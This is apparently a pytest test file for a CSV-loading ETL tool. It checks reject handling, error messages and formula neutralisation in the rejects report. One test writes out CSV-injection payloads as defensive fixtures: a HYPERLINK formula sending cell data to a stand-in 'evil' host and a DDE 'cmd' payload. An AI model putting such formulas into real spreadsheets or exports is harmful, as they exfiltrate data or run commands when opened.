"""Failures a user can cause end in a one-line message naming file, row and column (issue 9,
item 6), and the rejects report is safe to open in a spreadsheet (item 2)."""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner

from etl.cli import main
from etl.pipeline import LoadFailed, load_files

PROGRAMMES = [
    ["programme_code", "programme_name", "faculty", "cycle"],
    ["B1", "History", "Humanities", "bachelor"],
]
HEADER = ["academic_year", "headcount", "programme_code", "nationality", "gender"]


def _rejects(settings, *paths: Path) -> pd.DataFrame:
    with pytest.raises(LoadFailed) as failure:
        load_files(list(paths), settings)
    return failure.value.result.rejects


@pytest.mark.parametrize(
    ("headcount", "expected"),
    [
        ("100000000000000000000000000000", "a whole number from 0 to 2,147,483,647"),
        ("2147483648", "a whole number from 0 to 2,147,483,647"),
        ("1e29", "a whole number >= 0"),
    ],
)
def test_huge_headcount_is_a_reject_not_a_traceback(settings, write_csv, headcount, expected):
    programmes = write_csv("programmes.csv", PROGRAMMES)
    enrolments = write_csv("enrolments.csv", [HEADER, ["2019", headcount, "B1", "DE", "f"]])
    rejects = _rejects(settings, programmes, enrolments)
    assert rejects[["file", "row", "column", "value"]].values.tolist() == [
        ["enrolments.csv", 2, "headcount", headcount]
    ]
    assert rejects.iloc[0]["expected"] == expected


def test_largest_headcount_loads(settings, write_csv):
    programmes = write_csv("programmes.csv", PROGRAMMES)
    enrolments = write_csv("enrolments.csv", [HEADER, ["2019", "2147483647", "B1", "DE", "f"]])
    assert load_files([programmes, enrolments], settings).published


@pytest.mark.parametrize("value", ["inf", "1e999", "nan", "-inf"])
def test_non_finite_decimal_is_rejected(settings, write_csv, value):
    header = ["reference_year", "headcount", "faculty", "category", "staff_type", "fte"]
    staff = write_csv("staff.csv", [header, ["2019", "3", "Law", "lecturer", "academic", value]])
    rejects = _rejects(settings, staff)
    assert rejects[["row", "column", "value"]].values.tolist() == [[2, "fte", value]]


def test_cli_prints_one_line_per_reject_and_no_traceback(settings, write_csv):
    programmes = write_csv("programmes.csv", PROGRAMMES)
    enrolments = write_csv("enrolments.csv", [HEADER, ["2019", "1e29", "B1", "DE", "f"]])
    result = CliRunner().invoke(
        main, ["load", str(programmes), str(enrolments), "--database", str(settings.database)]
    )
    assert result.exit_code == 1
    assert isinstance(result.exception, SystemExit)
    assert "Traceback" not in result.output
    assert "enrolments.csv, row 2, column 'headcount': '1e29' — expected a whole number" in (
        result.output
    )


def test_report_goes_next_to_the_database_when_the_input_folder_is_not_writable(
    settings, write_csv, monkeypatch
):
    programmes = write_csv("programmes.csv", PROGRAMMES)
    enrolments = write_csv("enrolments.csv", [HEADER, ["2019", "x", "B1", "DE", "f"]])
    input_folder = enrolments.parent
    to_csv = pd.DataFrame.to_csv

    # The tests run as root, for whom chmod does not stop writing: refuse like a
    # read-only folder would.
    def read_only_input(frame, target=None, *args, **kwargs):
        if target is not None and Path(target).parent == input_folder:
            raise PermissionError(13, "Permission denied", str(target))
        return to_csv(frame, target, *args, **kwargs)

    monkeypatch.setattr(pd.DataFrame, "to_csv", read_only_input)
    with pytest.raises(LoadFailed) as failure:
        load_files([programmes, enrolments], settings)
    report = settings.database.parent / "enrolments.csv.rejects.csv"
    assert failure.value.result.report_paths == [report]
    assert pd.read_csv(report, dtype=str).iloc[0]["value"] == "x"
    assert str(report) in str(failure.value)


def test_rejects_report_neutralises_formulas(settings, write_csv):
    programmes = write_csv("programmes.csv", PROGRAMMES)
    rows = [
        ["2019", "=1+2", "B1", "DE", "f"],
        ["2019", "1", "B1", '=HYPERLINK("http://evil/?x="&A1,"Click")', "f"],
        ["2019", "-3", "B1", "DE", "f"],
        ["2019", "1", "B1", "DE", "@SUM(A1)"],
        ["2019", "1", "B1", "+cmd|' /C calc'!A0", "m"],
    ]
    enrolments = write_csv("enrolments.csv", [HEADER, *rows])
    with pytest.raises(LoadFailed) as failure:
        load_files([programmes, enrolments], settings)
    # In memory (and in the message) the values stay as they were.
    assert "=1+2" in set(failure.value.result.rejects["value"])
    written = pd.read_csv(failure.value.result.report_paths[0], dtype=str, keep_default_na=False)
    assert len(written) == 5
    for column in written.columns:
        for cell in written[column]:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert set(written["value"]) == {
        "'=1+2",
        '\'=HYPERLINK("http://evil/?x="&A1,"Click")',
        "'-3",
        "'@SUM(A1)",
        "'+cmd|' /C calc'!A0",
    }
